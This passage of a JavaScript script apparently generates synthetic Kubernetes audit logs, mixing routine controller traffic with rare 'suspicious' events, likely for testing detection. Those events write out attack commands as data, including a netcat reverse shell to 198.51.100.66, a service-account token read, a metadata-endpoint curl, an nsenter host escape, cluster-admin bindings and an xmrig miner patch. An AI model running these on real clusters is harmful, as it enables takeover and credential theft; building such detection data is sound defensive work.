        verb: 'create',
        ref: { resource: 'pods', namespace: d.ns },
        level: lv,
        req: b,
        res:
          lv === 'RequestResponse'
            ? {
                ...b,
                metadata: {
                  ...b.metadata,
                  name,
                  uid: uuid(),
                  resourceVersion: nextRv(),
                  creationTimestamp: ts(now).slice(0, 19) + 'Z',
                  managedFields: mf('kube-controller-manager', 'Update'),
                },
                status: { phase: 'Pending', qosClass: 'Burstable' },
              }
            : undefined,
        ann: { ...PSA(d.ns), ...(chance(0.4) ? MUT() : {}) },
      });
    },
  ],
  [
    1.4,
    () => {
      const p = pick(PODS);
      request({
        a: SCHED,
        verb: 'create',
        ref: { resource: 'pods', namespace: p.ns, name: p.name, uid: p.uid, subresource: 'binding' },
      });
    },
  ],
  [
    1.2,
    () => {
      const p = pick(PODS);
      request({ a: kub(p.node), verb: 'delete', ref: { resource: 'pods', namespace: p.ns, name: p.name } });
    },
  ],
  [
    1.2,
    () => {
      const c = pick(CRONJOBS);
      const jn = `${c.name}-${29300000 + int(99999)}`;
      const k = int(4);
      if (k === 0)
        request({
          a: kcm('cronjob-controller'),
          verb: 'create',
          ref: { resource: 'jobs', namespace: c.ns, name: jn, apiGroup: 'batch' },
          level: 'Metadata',
        });
      else if (k === 1)
        request({
          a: kcm('job-controller'),
          verb: 'update',
          ref: {
            resource: 'jobs',
            namespace: c.ns,
            name: jn,
            uid: uuid(),
            apiGroup: 'batch',
            resourceVersion: nextRv(),
            subresource: 'status',
          },
        });
      else if (k === 2)
        request({
          a: kcm('cronjob-controller'),
          verb: 'update',
          ref: {
            resource: 'cronjobs',
            namespace: c.ns,
            name: c.name,
            uid: c.uid,
            apiGroup: 'batch',
            resourceVersion: nextRv(),
            subresource: 'status',
          },
        });
      else
        request({
          a: kcm('ttl-after-finished-controller'),
          verb: 'delete',
          ref: { resource: 'jobs', namespace: c.ns, name: jn, apiGroup: 'batch' },
        });
    },
  ],
  [
    1.2,
    () => {
      const d = pick(DEPLOYS);
      const k = rnd();
      const c = chance(0.5) ? CTRLS[0] : pick([CTRLS[2], CTRLS[3]]);
      if (k < 0.4)
        request({
          a: kcm('deployment-controller'),
          verb: 'update',
          ref: {
            resource: 'replicasets',
            namespace: d.ns,
            name: `${d.app}-${d.rs}`,
            uid: d.rsuid,
            apiGroup: 'apps',
            resourceVersion: nextRv(),
          },
        });
      else if (k < 0.6)
        request({
          a: kcm('horizontal-pod-autoscaler'),
          verb: 'update',
          ref: { resource: 'deployments', namespace: d.ns, name: d.app, apiGroup: 'apps', subresource: 'scale' },
        });
      else {
        const b = {
          apiVersion: 'apps/v1',
          kind: 'Deployment',
          metadata: {
            name: d.app,
            namespace: d.ns,
            annotations: { 'deployment.kubernetes.io/revision': String(int(90)) },
          },
          spec: {
            replicas: 3,
            selector: { matchLabels: { app: d.app } },
            template: podBody(d.ns, d.app + '-xxxxx', d.app),
          },
        };
        request({
          a: c,
          verb: 'patch',
          ref: { resource: 'deployments', namespace: d.ns, name: d.app, uid: d.uid, apiGroup: 'apps' },
          level: 'RequestResponse',
          req: b,
          res: {
            ...b,
            metadata: {
              ...b.metadata,
              uid: d.uid,
              resourceVersion: nextRv(),
              managedFields: mf('argocd-controller', 'Apply'),
            },
          },
          q: '?fieldManager=argocd-controller&force=true',
        });
      }
    },
  ],
  [
    2.2,
    () => {
      const p = pick([
        '/readyz',
        '/livez',
        '/healthz',
        '/version?timeout=32s',
        '/openapi/v2',
        '/apis?timeout=32s',
        '/api?timeout=32s',
        '/metrics',
        '/apis/metrics.k8s.io/v1beta1',
      ]);
      const anon = /z$|version/.test(p) && chance(0.7);
      request({
        a: anon
          ? {
              ...ANON,
              ip: pick(['10.0.0.5', '10.0.0.6']),
              ua: pick(['kube-probe/1.31', 'ELB-HealthChecker/2.0', 'curl/8.5.0']),
            }
          : chance(0.5)
            ? pick(CTRLS)
            : APIS,
        verb: 'get',
        nonres: p,
      });
    },
  ],
  [
    1.5,
    () => {
      const a = human();
      const k = int(5);
      const ns = pick(APPNS);
      request({
        a,
        verb: pick(['get', 'list', 'list', 'watch'].slice(0, 3)),
        ref:
          k === 0
            ? { resource: 'pods', namespace: ns }
            : k === 1
              ? { resource: 'deployments', namespace: ns, apiGroup: 'apps' }
              : k === 2
                ? { resource: 'events', namespace: ns }
                : k === 3
                  ? { resource: 'nodes' }
                  : { resource: 'services', namespace: ns },
        q: '?limit=500',
      });
    },
  ],
  [
    0.5,
    () => {
      const a = human();
      const p = pick(PODS);
      request({
        a,
        verb: 'get',
        ref: { resource: 'pods', namespace: p.ns, name: p.name, subresource: 'log' },
        q: '?container=app&follow=true&tailLines=100',
      });
    },
  ],
  [
    0.6,
    () => {
      const a = pick(CTRLS);
      const ns = a.ns;
      request({
        a,
        verb: chance(0.7) ? 'update' : 'patch',
        ref: {
          resource: chance(0.5) ? 'configmaps' : 'secrets',
          namespace: ns,
          name: pick([...SECRETS, ...CONFIGMAPS]),
          uid: uuid(),
          resourceVersion: nextRv(),
        },
      });
    },
  ],
  [
    0.4,
    () =>
      request({
        a: APIS,
        verb: chance(0.7) ? 'get' : 'list',
        ref: { resource: pick(['namespaces', 'priorityclasses', 'flowschemas', 'apiservices']), apiGroup: '' },
      }),
  ],
]);
const SHELLS = [
  ['sh'],
  ['/bin/bash'],
  ['/bin/sh', '-c', 'id'],
  ['bash', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
  ['/usr/bin/curl', '-k', 'https://169.254.169.254/'],
  ['nc', '-e', '/bin/sh', '198.51.100.66', '4444'],
];
const qcmd = (c) =>
  '?' +
  c.map((x) => 'command=' + encodeURIComponent(x).replace(/%2F/g, '%2F')).join('&') +
  '&container=app&stderr=true&stdin=true&stdout=true&tty=true';
const suspicious = table([
  [
    6,
    () => {
      const a = human();
      const p = pick(PODS);
      request({
        a,
        verb: chance(0.5) ? 'create' : 'get',
        ref: { resource: 'pods', namespace: p.ns, name: p.name, subresource: 'exec' },
        q: qcmd(pick(SHELLS)),
        code: 101,
        level: chance(0.5) ? 'Request' : 'Metadata',
      });
    },
  ],
  [
    2,
    () => {
      const a = human();
      const p = pick(PODS);
      request({
        a,
        verb: 'create',
        ref: { resource: 'pods', namespace: p.ns, name: p.name, subresource: pick(['attach', 'portforward']) },
        code: 101,
      });
    },
  ],
  [
    4,
    () => {
      const a = chance(0.5) ? human() : pick(PODSA);
      request({
        a,
        verb: 'list',
        ref: { resource: 'secrets', ...(chance(0.5) ? { namespace: pick(NS) } : {}) },
        q: '?limit=500',
        code: chance(0.4) ? 403 : 200,
      });
    },
  ],
  [
    3,
    () => {
      const a = human();
      request({
        a,
        verb: chance(0.5) ? 'get' : 'delete',
        ref: { resource: 'secrets', namespace: pick(APPNS), name: pick(SECRETS) },
        code: chance(0.3) ? 403 : 200,
      });
    },
  ],
  [
    2,
    () => {
      const a = human();
      const b = {
        kind: 'ClusterRoleBinding',
        apiVersion: 'rbac.authorization.k8s.io/v1',
        metadata: { name: `debug-${sfx(5)}` },
        subjects: [
          {
            kind: chance(0.5) ? 'ServiceAccount' : 'User',
            name: pick(['default', 'mallory', 'ci']),
            namespace: 'default',
          },
        ],
        roleRef: {
          apiGroup: 'rbac.authorization.k8s.io',
          kind: 'ClusterRole',
          name: chance(0.7) ? 'cluster-admin' : 'edit',
        },
      };
      request({
        a,
        verb: pick(['create', 'patch', 'delete']),
        ref: {
          resource: chance(0.7) ? 'clusterrolebindings' : 'rolebindings',
          name: b.metadata.name,
          apiGroup: 'rbac.authorization.k8s.io',
        },
        level: 'RequestResponse',
        req: b,
        res: { ...b, metadata: { ...b.metadata, uid: uuid(), resourceVersion: nextRv() } },
      });
    },
  ],
  [
    1,
    () => {
      const a = chance(0.5) ? human() : pick(CTRLS);
      request({
        a,
        verb: pick(['create', 'patch', 'update']),
        ref: {
          resource: chance(0.5) ? 'mutatingwebhookconfigurations' : 'validatingwebhookconfigurations',
          name: pick(['istio-sidecar-injector', 'gatekeeper', 'evil-hook']),
          apiGroup: 'admissionregistration.k8s.io',
        },
      });
    },
  ],
  [
    1.5,
    () => {
      const a = human();
      const d = pick(DEPLOYS);
      request({ a, verb: 'delete', ref: { resource: 'deployments', namespace: d.ns, name: d.app, apiGroup: 'apps' } });
    },
  ],
  [
    1,
    () => {
      const a = human();
      request({
        a,
        verb: chance(0.5) ? 'delete' : 'deletecollection',
        ref: { resource: 'events', namespace: pick(NS), name: `x.${hex(16)}` },
      });
    },
  ],
  [
    1.5,
    () => {
      const a = chance(0.6) ? human() : CTRLS[0];
      request({
        a,
        verb: 'create',
        ref: { resource: 'serviceaccounts', namespace: pick(NS), name: pick(['backdoor', 'ci-runner', 'app']) },
      });
    },
  ],
  [
    3,
    () => {
      const a = chance(0.5) ? human() : kcm('daemon-set-controller');
      const ns = chance(0.5) ? 'kube-system' : pick(APPNS);
      const name = pick(['kube-proxy-', 'debugger-', 'node-agent-', 'xmrig-']) + sfx(5);
      const b = podBody(ns, name, name.slice(0, -6), {
        bare: chance(0.5),
        hostPath: chance(0.7) ? pick(['/', '/var/run/docker.sock', '/etc/kubernetes', '/var/log']) : null,
        privileged: chance(0.6),
        hostNetwork: chance(0.4),
        command: chance(0.4) ? ['nsenter', '--target', '1', '--mount', '--', 'bash'] : undefined,
      });
      request({
        a,
        verb: 'create',
        ref: { resource: 'pods', namespace: ns, ...(b.metadata.name ? { name } : {}) },
        level: chance(0.7) ? 'RequestResponse' : 'Request',
        req: b,
        res: { ...b, metadata: { ...b.metadata, name, uid: uuid(), managedFields: mf('kubectl-create', 'Update') } },
        ann: PSA(ns),
      });
    },
  ],
  [
    2,
    () => {
      const a = human();
      const c = pick(CRONJOBS);
      request({
        a,
        verb: pick(['create', 'patch', 'update', 'delete']),
        ref: { resource: chance(0.5) ? 'cronjobs' : 'jobs', namespace: c.ns, name: c.name, apiGroup: 'batch' },
      });
    },
  ],
  [
    2,
    () => {
      const a = chance(0.5) ? human() : pick(PODSA);
      request({
        a,
        verb: 'create',
        ref: {
          resource: chance(0.5) ? 'selfsubjectrulesreviews' : 'selfsubjectaccessreviews',
          apiGroup: 'authorization.k8s.io',
        },
      });
    },
  ],
  [
    3,
    () => {
      request({
        a: {
          ...ANON,
          ip: `185.220.101.${int(250)}`,
          ua: pick([
            'curl/8.5.0',
            'python-requests/2.32.3',
            'Mozilla/5.0 zgrab/0.x',
            'kubectl/v1.29.3 (linux/amd64) kubernetes/6813625',
            'Go-http-client/1.1',
          ]),
        },
        verb: chance(0.6) ? 'list' : 'get',
        ref: { resource: pick(['pods', 'secrets', 'nodes', 'namespaces']) },
        code: chance(0.5) ? 403 : 401,
      });
    },
  ],
  [
    1,
    () => {
      const a = human();
      request({
        a,
        verb: pick(['get', 'list']),
        ref: { resource: pick(['pods', 'secrets', 'configmaps']), namespace: pick(NS) },
        imp: {
          username: pick(['system:admin', 'oidc:alice@example.com', 'system:serviceaccount:kube-system:default']),
          groups: ['system:masters', 'system:authenticated'],
        },
      });
    },
  ],
  [
    1,
    () => {
      const a = human();
      const d = pick(DEPLOYS);
      const b = [
        {
          op: 'add',
          path: '/spec/template/spec/containers/-',
          value: container('miner', 'evil/xmrig', { privileged: true }),
        },
      ];
      request({
        a,
        verb: 'patch',
        ref: { resource: 'deployments', namespace: d.ns, name: d.app, apiGroup: 'apps' },
        level: 'Request',
        req: b,
      });
    },
  ],
  [
    1,
    () => {
      const a = pick(PODSA);
      request({
        a: { ...a, ua: pick(['trufflehog/3.84', 'access_matrix/v0.5', 'kubescape/3.0', 'peirates']) },
        verb: 'list',
        ref: { resource: pick(['secrets', 'configmaps', 'pods', 'clusterroles']) },
        code: 403,
      });
    },
  ],
  [
    1,
    () => {
      const n = pick(NODES);
      request({
        a: human(),
        verb: 'get',
        ref: { resource: 'nodes', name: n.name, subresource: 'proxy' },
        q: '/run/kube-system/kube-proxy/kube-proxy?cmd=id',
        code: chance(0.5) ? 403 : 200,
      });
    },
  ],
]);
while (emitted < COUNT) (chance(0.012) ? suspicious : benign)()();
flush();
fs.closeSync(fd);
